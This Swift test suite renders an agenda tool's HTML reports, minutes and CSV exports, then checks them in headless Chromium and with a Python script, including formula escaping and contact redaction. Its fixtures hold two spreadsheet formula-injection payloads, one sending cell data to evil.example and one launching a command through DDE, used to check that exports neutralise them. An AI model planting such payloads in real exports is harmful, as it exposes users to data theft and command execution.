import AgendaModel
import AgendaStore
import Foundation
import Testing
import TestSupport

/// The HTML reports and minutes the real binary writes, opened in headless Chromium on a phone and a
/// desktop and printed, and its CSV files read back by Python's csv module: `check_reports.py` beside
/// this file does the checking, and every problem it prints fails the test.
///
/// Chromium must be installed (`apt-get install -y chromium`; `.ci/run` installs it when missing): the
/// test fails, rather than skipping, when it is not. `AGENDA_BROWSER_ARTIFACTS=DIR` keeps the
/// screenshots and PDFs there.
@Suite(.serialized) struct BrowserReportTests {
    static let now = ["AGENDA_NOW": "2026-11-29T18:00:00Z", "TZ": "UTC"]
    static let formulaTitles = [#"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0"]

    @Test func reportsMinutesAndCSVOfTheSampleAndOfAThousandGoals() throws {
        let folder = TemporaryFolder("agenda-browser")
        let artifacts = ProcessInfo.processInfo.environment["AGENDA_BROWSER_ARTIFACTS"]
        // The files written: into the artifacts' folder when there is one, to be looked at.
        let outputs = artifacts ?? folder.path
        var sample = try FileAgendaStore().load(Paths.sampleAgenda)
        try MeetingFixture.hold(on: &sample, goals: Array(sample.goals.prefix(2)).map(\.id))
        try MeetingFixture.addFormulaGoals(Self.formulaTitles, to: &sample)
        try MeetingFixture.addContactNote(to: &sample)
        let samplePath = outputs + "/sample.json"
        try Data(JSONAgendaFormat().encode(sample)).write(to: URL(fileURLWithPath: samplePath))
        var large = AgendaGenerator.agenda(goals: 1_000)
        try MeetingFixture.hold(on: &large, goals: [large.goals[0].id, large.goals[1].id])
        let largePath = outputs + "/large.json"
        try Data(JSONAgendaFormat().encode(large)).write(to: URL(fileURLWithPath: largePath))

        var manifest: [[String: Any]] = []
        func write(_ label: String, _ arguments: [String], _ entry: [String: Any]) {
            let output = outputs + "/" + label
            let result = CommandRunner.agenda(arguments + ["--output", output], environment: Self.now)
            #expect(result.status == 0, "\(arguments): \(result.stderr)")
            manifest.append(entry.merging(["label": label, "path": output]) { $1 })
        }
        for language in ["en", "es", "pt", "fr"] {
            write("report-\(language).html", ["report", samplePath, "--format", "html", "--since", "2026-11-01", "--lang", language],
                  ["kind": "html", "lang": language, "cards": true])
        }
        write("minutes-en.html", ["minutes", samplePath, "S-TEST", "--format", "html", "--lang", "en"], ["kind": "html", "lang": "en"])
        write("minutes-es.html", ["minutes", samplePath, "S-TEST", "--format", "html", "--lang", "es"], ["kind": "html", "lang": "es"])
        write("report-1000.html", ["report", largePath, "--format", "html", "--since", "2026-11-01"],
              ["kind": "html", "lang": "en", "cards": true])
        write("minutes-1000.html", ["minutes", largePath, "S-TEST", "--format", "html"], ["kind": "html", "lang": "en"])
        for what in ["goals", "sessions", "decisions", "actions"] {
            for raw in [false, true] {
                write("\(what)\(raw ? "-raw" : "").csv", ["report", samplePath, "--format", "csv", "--what", what] + (raw ? ["--raw"] : []),
                      ["kind": "csv", "what": what, "raw": raw, "agenda": samplePath,
                       "present": raw || what != "goals" ? [] : Self.formulaTitles.map { "'" + $0 }])
            }
        }
        write("goals-no-bom.csv", ["report", samplePath, "--format", "csv", "--no-bom", "--lang", "es"],
              ["kind": "csv", "what": "goals", "raw": false, "bom": false, "agenda": samplePath, "lang": "es"])
        write("goals-private.csv", ["report", samplePath, "--format", "csv", "--private"],
              ["kind": "csv", "what": "goals", "raw": false, "compare": false, "agenda": samplePath,
               "absent": [MeetingFixture.email, MeetingFixture.phone, MeetingFixture.noteAuthor], "present": ["[contact removed]"]])
        let manifestPath = outputs + "/manifest.json"
        try JSONSerialization.data(withJSONObject: manifest).write(to: URL(fileURLWithPath: manifestPath))

        let script = Paths.packageRoot + "/Tests/BrowserTests/check_reports.py"
        var arguments = ["python3", script, manifestPath]
        if let artifacts { arguments += ["--artifacts", artifacts] }
        let started = Date()
        let check = CommandRunner.run("/usr/bin/env", arguments)
        print("browser: \(check.stdout.split(separator: "\n").last ?? "") (\(Int(Date().timeIntervalSince(started))) s with Chromium's start)")
        if check.status == 3 {
            Issue.record("""
                Chromium is missing, so the reports cannot be opened in a browser: install it with \
                `sudo apt-get install -y chromium` (.ci/run installs it when it is missing). \(check.stdout)
                """)
        } else {
            #expect(check.status == 0, "\(check.stdout)\(check.stderr)")
        }
    }
}
